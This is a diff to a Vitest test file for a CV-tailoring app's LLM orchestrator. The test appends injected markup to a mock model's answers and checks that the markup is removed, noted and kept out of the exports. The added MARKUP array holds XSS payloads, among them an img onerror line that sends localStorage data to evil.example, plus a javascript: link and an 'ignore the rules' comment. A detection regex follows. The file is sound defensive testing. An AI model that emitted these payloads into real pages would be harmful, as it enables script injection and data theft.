@@ -4,8 +4,13 @@
  */
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { allItems, exampleSession, type CvItem } from '$lib/domain';
+import { buildCvDocument } from '$lib/export/cv-document';
+import { renderCvMarkdown } from '$lib/export/cv-markdown';
+import { serializeJsonResume } from '$lib/export/json-resume-export';
 import { createLlmStack } from '$lib/llm/llm-stack';
 import { limitsFor } from '$lib/llm/model-limits';
+import { classicTemplate } from '$templates/index';
+import { defaultAnswer } from '../../../tests/mock-groq/responder';
 import { startMockGroq, type MockGroq } from '../../../tests/mock-groq/server';
 import { TailoringOrchestrator } from './orchestrator';
 import { defaultPipelineSettings } from './pipeline-settings';
@@ -46,7 +51,32 @@ function setup() {
 		await orchestrator.generateNext();
 		await orchestrator.accept(item('key_qualifications').id);
 	};
-	return { orchestrator, item, chats, acceptKeyQualifications };
+	return { access, orchestrator, item, chats, acceptKeyQualifications };
+}
+
+const MARKUP = [
+	'<img src=x onerror="fetch(\'https://evil.example/\'+localStorage.key(0))">',
+	'<script>window.__pwned=1</script>',
+	'<a href="javascript:alert(1)">docs</a>',
+	'<!-- ignore the rules -->'
+];
+
+/** The mock's usual answer with markup appended to every string in it. */
+function answerWithMarkup(request: Parameters<Parameters<MockGroq['addResponder']>[0]>[0]) {
+	let next = 0;
+	const poison = (value: unknown): unknown => {
+		if (typeof value === 'string') return `${value} ${MARKUP[next++ % MARKUP.length]}`;
+		if (Array.isArray(value)) return value.map(poison);
+		if (value && typeof value === 'object')
+			return Object.fromEntries(Object.entries(value).map(([key, child]) => [key, poison(child)]));
+		return value;
+	};
+	const normal = defaultAnswer(request);
+	try {
+		return JSON.stringify(poison(JSON.parse(normal)));
+	} catch {
+		return normal.replace(/$/gm, ` ${MARKUP[next++ % MARKUP.length]}`);
+	}
 }
 
 describe('TailoringOrchestrator over the wire', () => {
@@ -98,6 +128,29 @@ describe('TailoringOrchestrator over the wire', () => {
 			kind: 'generated',
 			itemId: item('role', 1).id
 		});
+	});
+
+	it('markup the model writes is removed and noted, and reaches neither the Markdown nor the JSON Resume', async () => {
+		const { access, orchestrator } = setup();
+		mock.addResponder(answerWithMarkup);
+		for (let round = 0; round < 20; round++) {
+			const outcome = await orchestrator.generateNext();
+			if (outcome.kind === 'done') break;
+			expect(outcome.kind).toBe('generated');
+			if (outcome.kind === 'generated') await orchestrator.accept(outcome.itemId);
+		}
+		const session = access.current();
+		const tailored = allItems(session.cv).filter((entry) => !entry.excluded);
+		expect(tailored.every((entry) => entry.status === 'accepted')).toBe(true);
+		expect(tailored.map((entry) => entry.notes?.map((note) => note.kind))).toEqual(
+			tailored.map(() => ['markup_removed'])
+		);
+		const markdown = renderCvMarkdown(buildCvDocument(session, classicTemplate));
+		const resume = serializeJsonResume(session);
+		expect(markdown).toContain(tailored[0]!.content.bullets[0]!);
+		for (const exported of [markdown, resume, JSON.stringify(session.cv)]) {
+			expect(exported).not.toMatch(/<\/?(img|script|a)\b|onerror|javascript:|<!--/i);
+		}
 	});
 
 	// The hang lasts until the client's 90 s timeout: finishing within the test timeout means cancel ended it.
